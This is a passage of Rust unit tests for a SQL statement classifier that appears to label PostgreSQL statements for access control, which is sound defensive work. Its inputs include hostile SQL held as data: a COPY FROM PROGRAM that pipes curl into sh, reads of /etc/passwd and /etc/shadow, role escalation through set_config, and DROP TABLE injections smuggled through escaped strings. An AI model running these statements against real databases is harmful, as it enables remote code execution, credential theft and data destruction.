            ("CLOSE c", "CLOSE CURSOR"),
        ] {
            let s = one(sql);
            assert_eq!(
                (s.action, s.command.as_str()),
                (ACTION_SESSION, command),
                "{sql}"
            );
        }
    }

    #[test]
    fn transactions() {
        for (sql, command) in [
            ("BEGIN", "BEGIN"),
            (
                "START TRANSACTION ISOLATION LEVEL SERIALIZABLE",
                "START TRANSACTION",
            ),
            ("COMMIT", "COMMIT"),
            ("END", "COMMIT"),
            ("ROLLBACK", "ROLLBACK"),
            ("SAVEPOINT s1", "SAVEPOINT"),
            ("RELEASE SAVEPOINT s1", "RELEASE"),
            ("ROLLBACK TO SAVEPOINT s1", "ROLLBACK"),
            ("PREPARE TRANSACTION 'x'", "PREPARE TRANSACTION"),
            ("COMMIT PREPARED 'x'", "COMMIT PREPARED"),
        ] {
            let s = one(sql);
            assert_eq!(
                (s.action, s.command.as_str()),
                (ACTION_TRANSACTION, command),
                "{sql}"
            );
        }
    }

    #[test]
    fn begin_commit_multi_statement() {
        let all = classify("BEGIN; UPDATE t SET a = 1 WHERE id = 3; COMMIT;");
        let got: Vec<(&str, &str, &str)> = all
            .iter()
            .map(|s| (s.action, s.command.as_str(), s.text.as_str()))
            .collect();
        assert_eq!(
            got,
            vec![
                (ACTION_TRANSACTION, "BEGIN", "BEGIN"),
                (ACTION_UPDATE, "UPDATE", "UPDATE t SET a = 1 WHERE id = 3"),
                (ACTION_TRANSACTION, "COMMIT", "COMMIT"),
            ]
        );
    }

    #[test]
    fn multi_statement_split_is_per_statement() {
        let all = classify(
            "SELECT * FROM a;\n  DELETE FROM b /* ; */ WHERE x = ';'  ;  SELECT lo_import('/etc/passwd')",
        );
        assert_eq!(all.len(), 3);
        assert_eq!(all[0].text, "SELECT * FROM a");
        assert_eq!(all[0].tables_read, v(&["a"]));
        assert!(all[0].tables_written.is_empty());
        assert_eq!(all[1].text, "DELETE FROM b /* ; */ WHERE x = ';'");
        assert_eq!(all[1].action, ACTION_DELETE);
        assert_eq!(all[1].tables_written, v(&["b"]));
        assert!(all[1].tables_read.is_empty());
        assert!(all[1].functions.is_empty());
        assert_eq!(all[2].text, "SELECT lo_import('/etc/passwd')");
        assert_eq!(all[2].functions, v(&["lo_import"]));
    }

    #[test]
    fn copy_from_stdin_writes() {
        let s = one("COPY public.t (a, b) FROM STDIN WITH (FORMAT csv)");
        assert_eq!((s.action, s.command.as_str()), (ACTION_COPY, "COPY"));
        assert_eq!(s.copy_direction, Some(CopyDirection::From));
        assert_eq!(s.tables_written, v(&["public.t"]));
        assert!(s.tables_read.is_empty());
        assert!(!s.copy_program);
    }

    #[test]
    fn copy_to_stdout_reads() {
        let s = one("COPY t TO STDOUT");
        assert_eq!(s.copy_direction, Some(CopyDirection::To));
        assert_eq!(s.tables_read, v(&["t"]));
        assert!(s.tables_written.is_empty());

        let s = one("COPY (SELECT * FROM a JOIN b USING (id)) TO STDOUT WITH CSV");
        assert_eq!(s.action, ACTION_COPY);
        assert_eq!(s.tables_read, v(&["a", "b"]));
    }

    #[test]
    fn copy_program_and_server_files() {
        let s = one("COPY t FROM PROGRAM 'curl http://x | sh'");
        assert!(s.copy_program);
        assert_eq!(s.copy_direction, Some(CopyDirection::From));
        let s = one("COPY (SELECT 1) TO PROGRAM 'sh'");
        assert!(s.copy_program);
        assert_eq!(s.copy_direction, Some(CopyDirection::To));
        let s = one("COPY t TO '/tmp/t.csv'");
        assert_eq!((s.action, s.command.as_str()), (ACTION_COPY, "COPY"));
        assert!(!s.copy_program);
    }

    #[test]
    fn copy_of_a_data_modifying_query_is_that_modification() {
        let s = one("COPY (DELETE FROM t RETURNING *) TO STDOUT");
        assert_eq!(s.action, ACTION_DELETE);
        assert_eq!(s.command, "COPY");
        assert_eq!(s.tables_written, v(&["t"]));
    }

    #[test]
    fn functions_in_subqueries_and_everywhere() {
        let s = one(
            "SELECT * FROM t WHERE x = (SELECT pg_catalog.PG_READ_FILE('/etc/passwd')) \
             AND y IN (SELECT upper(name) FROM u LIMIT (SELECT count(*) FROM dblink('h', 'q') AS r(c int)))",
        );
        assert_eq!(
            s.functions,
            v(&["count", "dblink", "pg_read_file", "upper"])
        );
        assert_eq!(s.tables_read, v(&["t", "u"]));

        let s = one("INSERT INTO t VALUES (lo_import('/etc/shadow')) RETURNING md5(a)");
        assert_eq!(s.functions, v(&["lo_import", "md5"]));

        let s = one("WITH x AS (SELECT set_config('role', 'admin', false)) SELECT * FROM x");
        assert_eq!(s.functions, v(&["set_config"]));
    }

    #[test]
    fn sql_text_run_by_built_ins_is_classified_or_dynamic() {
        let s = one("SELECT query_to_xml('DELETE FROM orders RETURNING id', true, true, '')");
        assert_eq!(s.action, ACTION_DELETE);
        assert_eq!(s.command, "DELETE");
        assert_eq!(s.tagged_as.as_deref(), Some("SELECT"));
        assert_eq!(s.tables_written, v(&["orders"]));
        assert!(!s.dynamic_sql);
        let s = one("SELECT query_to_xml('SELECT * FROM customers'::text, true, true, '')");
        assert_eq!(s.action, ACTION_SELECT);
        assert_eq!(s.tables_read, v(&["customers"]));
        let s = one("SELECT query_to_xml(q, true, true, '') FROM queue");
        assert!(s.dynamic_sql);
        let s = one("SELECT * FROM dblink('dbname=x', 'SELECT 1') AS t(a int)");
        assert!(s.dynamic_sql);
        let s = one("SELECT table_to_xml('customers', true, true, '')");
        assert_eq!(s.tables_read, v(&["customers"]));
        assert!(one("SELECT schema_to_xml('public', true, true, '')").dynamic_sql);
        let s = one("SELECT ts_stat('SELECT to_tsvector(body) FROM docs')");
        assert_eq!(s.tables_read, v(&["docs"]));
        // Nested past the limit is dynamic rather than unread.
        let mut q = "SELECT 1".to_string();
        for _ in 0..6 {
            q = format!(
                "SELECT query_to_xml('{}', true, true, '')",
                q.replace('\'', "''")
            );
        }
        assert!(one(&q).dynamic_sql);
    }

    #[test]
    fn upserts_update_and_operators_are_named() {
        let s = one("INSERT INTO t SELECT * FROM u ON CONFLICT (id) DO UPDATE SET v = 1");
        assert_eq!(s.action, ACTION_UPDATE);
        assert!(s.has_where);
        assert_eq!(
            one("INSERT INTO t VALUES (1) ON CONFLICT DO NOTHING").action,
            ACTION_INSERT
        );
        assert_eq!(one("SELECT 1 ### 2 + 3").operators, v(&["###", "+"]));
        let s = one("SELECT o.total, o.purge, 5::checked, CAST(1 AS ticket) FROM orders o");
        assert_eq!(s.attributes, v(&["purge", "total"]));
        assert_eq!(s.cast_types, v(&["checked", "ticket"]));
        // Read both ways: harmless either way, or the danger counts.
        let s = one(r"SELECT query_to_xml('SELECT ''a\'' AS x', true, true, '')");
        assert_eq!(s.action, ACTION_SELECT);
        let s =
            one(r"SELECT query_to_xml('SELECT ''a\'' , '' ; DELETE FROM t --''', true, true, '')");
        assert_eq!(s.action, ACTION_DELETE);
        assert_eq!(
            one(r#"SELECT table_to_xml('PUBLIC."Mixed"', true, true, '')"#).tables_read,
            v(&["public.Mixed"])
        );
        assert_eq!(
            one("PREPARE p AS SELECT 1").prepared_name.as_deref(),
            Some("p")
        );
        assert_eq!(one("DEALLOCATE ALL").prepared_name, None);
    }

    #[test]
    fn set_config_of_the_role_is_dcl() {
        for sql in [
            "SELECT set_config('role', 'postgres', false)",
            "SELECT set_config('ROLE', 'postgres', false)",
            "SELECT pg_catalog.set_config('session_authorization', 'postgres', false)",
            "SELECT set_config(name, 'x', false) FROM settings",
        ] {
            assert_eq!(one(sql).action, ACTION_DCL, "{sql}");
        }
        assert_eq!(
            one("SELECT set_config('search_path', 'public', false)").action,
            ACTION_SELECT
        );
        // The shape cache must not hand one literal's reading to another.
        let c = Classifier::new(16);
        let q = |sql: &str| c.classify(sql)[0].action;
        assert_eq!(
            q("SELECT set_config('search_path', 'x', false)"),
            ACTION_SELECT
        );
        assert_eq!(
            q("SELECT set_config('role', 'postgres', false)"),
            ACTION_DCL
        );
        assert_eq!(
            q("SELECT query_to_xml('SELECT 1', true, true, '')"),
            ACTION_SELECT
        );
        assert_eq!(
            q("SELECT query_to_xml('DELETE FROM t', true, true, '')"),
            ACTION_DELETE
        );
    }

    #[test]
    fn standard_conforming_strings_off_changes_the_reading() {
        let sql = r"SELECT 'x\' , ' ; DROP TABLE orders; --'";
        let on = classify_as(sql, Lexing::default());
        assert_eq!(on.len(), 1);
        assert_eq!(on[0].action, ACTION_SELECT);
        let off = classify_as(
            sql,
            Lexing {
                standard_conforming_strings: false,
            },
        );
        assert_eq!(off.len(), 2, "{off:#?}");
        assert_eq!(off[1].command, "DROP TABLE");
        let cache = Classifier::new(16);
        let cached = cache.classify_as(
            sql,
            Lexing {
                standard_conforming_strings: false,
            },
        );
        assert_eq!(cached[1].command, "DROP TABLE");
    }

    #[test]
    fn do_call_execute_are_opaque() {
        let s = one("DO $$ BEGIN EXECUTE 'DROP TABLE t'; END $$");
        assert_eq!((s.action, s.command.as_str()), (ACTION_OPAQUE, "DO"));

        let s = one("CALL maintenance.purge(now())");
        assert_eq!((s.action, s.command.as_str()), (ACTION_OPAQUE, "CALL"));
        assert_eq!(s.functions, v(&["now", "purge"]));

        let s = one("EXECUTE p(1)");
        assert_eq!((s.action, s.command.as_str()), (ACTION_OPAQUE, "EXECUTE"));

        assert_eq!(one("LOAD 'plugin'").action, ACTION_OPAQUE);
        assert_eq!(
            one("ALTER SYSTEM SET archive_command = 'sh'").action,
            ACTION_OPAQUE
        );
        let s = one("LOCK TABLE t IN ACCESS EXCLUSIVE MODE");
        assert_eq!(s.action, ACTION_OPAQUE);
        assert_eq!(s.tables_written, v(&["t"]));
    }

    #[test]
    fn prepare_is_judged_by_its_body() {
        let s = one("PREPARE p (int) AS DELETE FROM t WHERE id = $1");
        assert_eq!((s.action, s.command.as_str()), (ACTION_DELETE, "PREPARE"));
        assert_eq!(s.tables_written, v(&["t"]));
        assert!(s.has_where);
        let s = one("PREPARE q AS SELECT * FROM t");
        assert_eq!((s.action, s.command.as_str()), (ACTION_SELECT, "PREPARE"));
    }

    #[test]
    fn declare_cursor_is_its_query() {
        let s = one("DECLARE c CURSOR WITH HOLD FOR SELECT * FROM big_table");
        assert_eq!(
            (s.action, s.command.as_str()),
            (ACTION_SELECT, "DECLARE CURSOR")
        );
        assert_eq!(s.tables_read, v(&["big_table"]));
    }

    #[test]
    fn garbage_is_opaque_unparsable() {
        for sql in [
            "this is not sql",
            "SELECT 1; DELETE FROM",
            "SELECT 'unterminated",
            "SELECT 1\0; DROP TABLE t",
        ] {
            let all = classify(sql);
            assert_eq!(all.len(), 1, "{sql:?}");
            assert_eq!(all[0].action, ACTION_OPAQUE);
            assert_eq!(all[0].command, COMMAND_UNPARSABLE);
            assert_eq!(all[0].text, sql.trim());
            assert_eq!(fingerprint(sql), None);
        }
    }

    #[test]
    fn empty_input_has_no_statements() {
        for sql in [
            "",
            "   ",
            ";;",
            " ; -- just a comment\n /* and another */ ;",
        ] {
            assert!(classify(sql).is_empty(), "{sql:?}");
        }
    }

    #[test]
    fn deep_nesting_does_not_panic() {
        let deep = format!("SELECT {}1{}", "(".repeat(5000), ")".repeat(5000));
        let _ = classify(&deep);
        // prost refuses to decode trees nested past its recursion limit
        // (about 47 chained operators or 23 nested subqueries): fail closed.
        let chain = format!("SELECT {}", vec!["1"; 2000].join(" + "));
        let all = classify(&chain);
        assert_eq!(all.len(), 1);
        assert_eq!(
            (all[0].action, all[0].command.as_str()),
            (ACTION_OPAQUE, COMMAND_UNPARSABLE)
        );
        let subqueries = format!(
            "SELECT * FROM {}t{}",
            "(SELECT * FROM ".repeat(300),
            ") x".repeat(300)
        );
        let all = classify(&subqueries);
        assert_eq!(all.len(), 1);
        // Either fully understood or refused; never a silent, partial answer.
        assert!(all[0].action == ACTION_OPAQUE || all[0].tables_read == v(&["t"]));
    }

    #[test]
    fn leading_comments_are_not_part_of_the_text() {
        let all = classify("-- why\nSELECT 1; /* c */ SELECT 2");
        assert_eq!(all[0].text, "SELECT 1");
        assert_eq!(all[1].text, "SELECT 2");
    }

    #[test]
    fn multibyte_text_slices_correctly() {
        let all = classify("SELECT 'héllo wörld'; SELECT '日本' FROM t");
        assert_eq!(all[0].text, "SELECT 'héllo wörld'");
        assert_eq!(all[1].text, "SELECT '日本' FROM t");
    }

    #[test]
    fn fingerprint_keeps_relation_identity() {
        let a = fingerprint("SELECT * FROM public.users u WHERE id = 1");
        assert!(a.is_some());
        assert_eq!(a, fingerprint("select * from public.users u where id = 2"));
        assert_ne!(a, fingerprint("SELECT * FROM secret.users u WHERE id = 1"));
        assert_ne!(
            fingerprint("DELETE FROM orders_2024"),
            fingerprint("DELETE FROM orders_2025")
        );
    }

    #[test]
    fn classifier_caches_by_exact_text() {
        let c = Classifier::new(2);
        let a = c.classify("SELECT * FROM t WHERE id = 1");
        let b = c.classify("SELECT * FROM t WHERE id = 1");
        assert!(Arc::ptr_eq(&a, &b));
        // Same fingerprint, different text: its own entry with its own text.
        let other = c.classify("SELECT * FROM t WHERE id = 2");
        assert!(!Arc::ptr_eq(&a, &other));
        assert_eq!(other[0].text, "SELECT * FROM t WHERE id = 2");
        // Further entries evict the oldest.
        let _ = c.classify("SELECT 3");
        let _ = c.classify("SELECT a FROM u");
        assert!(!Arc::ptr_eq(
            &a,
            &c.classify("SELECT * FROM t WHERE id = 1")
        ));

        let off = Classifier::new(0);
        assert_eq!(off.classify("SELECT 1")[0].action, ACTION_SELECT);

        fn send_sync<T: Send + Sync>() {}
        send_sync::<Classifier>();
    }

    #[test]
    fn statements_serialize() {
        let s = one("COPY t FROM STDIN");
        let json = serde_json::to_value(&s).unwrap_or_default();
        assert_eq!(json["action"], "sql:copy");
        assert_eq!(json["copy_direction"], "From");
    }
}
